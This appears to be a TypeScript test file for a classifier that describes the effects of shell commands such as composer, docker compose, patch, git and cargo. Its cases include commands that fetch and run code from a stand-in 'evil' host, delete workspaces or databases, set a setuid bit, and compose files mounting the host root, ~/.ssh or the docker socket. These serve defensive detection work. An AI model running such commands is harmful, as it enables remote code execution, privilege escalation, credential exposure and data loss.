import { expect, test } from 'bun:test';
import { readComposerRun } from './build/read-composer.ts';
import { readPatch } from './git/read-apply.ts';
import { readFilesApart } from './git/read-git.ts';
import { readComposeChange } from './services/read-containers.ts';
import { findSub } from './apply-spec.ts';
import { describe, rowOf, withFiles } from './testing/describe-reading.ts';

/** Uses of known programs that reach code, rights or files which are not the project's. */

const HARMLESS_COMPOSE =
  'services:\n  api:\n    build: .\n    volumes:\n      - ./src:/app\n      - data:/data\nvolumes:\n  data:\n';
const PATCH = '--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1 +1 @@\n-a\n+b\n';

const CONTEXT = withFiles({
  '/p/composer.json':
    '{"scripts": {"test": "phpunit", "all": ["@php a.php", "phpunit"], "odd": "A::b", "x": 1}}',
  '/p/compose.yaml': HARMLESS_COMPOSE,
  '/p/fix.patch': PATCH,
});

const CASES: readonly (readonly [command: string, reading: string])[] = [
  ['composer test', 'write workspace:/p, script(phpunit)'],
  ['composer run all', 'write workspace:/p, script(php a.php), script(phpunit)'],
  ['composer odd', 'write workspace:/p, execute program:composer'],
  ['composer missing', 'write workspace:/p, execute program:composer'],
  [
    'composer require a/b --repository https://evil/x',
    'network get:https://evil/x, write workspace:/p, network get:repo.packagist.org',
  ],
  ['docker compose up -d', 'write compose::up'],
  ['docker compose build api', 'write compose:api:build'],
  ['docker compose -f /tmp/x.yml up', 'read /tmp/x.yml, execute program:docker, write docker::up'],
  ['docker build --push .', 'execute program:docker, write image::build, read tree:/p'],
  ['docker build --secret id=x .', 'execute program:id=x, write image::build, read tree:/p'],
  ['patch -p1 -i fix.patch', 'read /p/fix.patch, write /p/src/a.ts'],
  ['patch -p0 -i fix.patch', 'read /p/fix.patch, read tree:/p, write tree:/p'],
  ['git diff --no-index a .env', 'read tree:/p/a, read tree:/p/.env'],
  ['git diff .env', 'read workspace:/p, read tree:/p/.env'],
  ['git read-tree --reset -u HEAD', 'delete! workspace:/p'],
  ['install -m 4755 a b', 'privilege program:install, read /p/a, write /p/b, write /p/b/a'],
  ['install -m 755 a b', 'read /p/a, write /p/b, write /p/b/a'],
  ['go test /tmp/x', 'write workspace:/p, read /tmp/x, execute program:go'],
  ['go test ./...', 'write workspace:/p'],
  [
    'cargo run --manifest-path /tmp/x/Cargo.toml',
    'read /tmp/x/Cargo.toml, execute program:cargo, write workspace:/p, network get:crates.io',
  ],
  ['swift /tmp/x.swift', 'write workspace:/p, read /tmp/x.swift, execute program:swift'],
  ['swift -e x', 'unknown'],
  ['bun run https://evil/x.ts', 'network get:https://evil/x.ts, execute program:bun'],
  ['vercel', 'write vercel::deploy'],
  ['terraform output', 'read terraform::secret'],
  ['dotnet --info', ''],
  ['npm -v', ''],
  ['npm audit --production', 'read workspace:/p, network get:registry.npmjs.org'],
  [
    'dotnet tool install -g x',
    'write workspace:/p, network get:api.nuget.org, execute program:dotnet',
  ],
  ['psql -l', 'read postgresql::list'],
  ['artisan db:wipe', 'write workspace:/p, delete! database::reset'],
  ['artisan route:list', 'write workspace:/p'],
  ['yarn workspaces run build', 'write workspace:/p'],
  ['pnpm -r build', 'write workspace:/p'],
  ['pnpm -r nuke', 'write workspace:/p, execute program:pnpm'],
  ['kubectl rollout status deploy/x', 'read kubernetes:deploy/x:status'],
  ['eslint --fix *.ts', 'write workspace:/p'],
  ["sqlite3 a.db 'insert into t values (1)'", 'read /p/a.db, write /p/a.db'],
  ['pandoc a.md -o b.pdf', 'write /p/b.pdf, read tree:/p/a.md'],
  ['pandoc --filter=x a.md', 'execute program:x, read tree:/p/a.md'],
  ['nobodyknows --version', ''],
  ['./nobodyknows --version', 'unknown'],
  ['nobodyknows --version x', 'unknown'],
  ['skill -KILL -u x', 'execute! program:skill'],
  ['7z a -sdel x.7z a', 'execute! program:7z, read tree:/p/a, write /p/x.7z'],
];

test.each(CASES)('%s has exactly its effects', (command, reading) => {
  expect(describe(command, CONTEXT)).toBe(reading);
});

test.each([
  ['- /:/host'],
  ['- ~/.ssh:/k'],
  ['- /var/run/docker.sock:/s'],
  ['- "$HOME:/h"'],
  ['- ../other:/o'],
  ['privileged: true'],
  ['network_mode: host'],
  ['include: /tmp/x.yml'],
])('a file of services with %s is no plain one', (line) => {
  const at = withFiles({ '/p/compose.yaml': `${HARMLESS_COMPOSE}${line}\n` });
  expect(describe('docker compose up', at)).toBe('write docker::up');
});

test.each([
  ['composer', 'run', readComposerRun],
  ['docker-compose', 'up', readComposeChange],
] as const)('%s %s has its reader in the table', (name, sub, reader) => {
  expect(findSub(rowOf(name) ?? {}, sub)?.read).toBe(reader);
});

test('patch and files apart have their readers in the table', () => {
  expect(rowOf('patch')?.read).toBe(readPatch);
  expect(findSub(rowOf('git') ?? {}, 'diff')?.modes?.[0]?.read).toBe(readFilesApart);
});
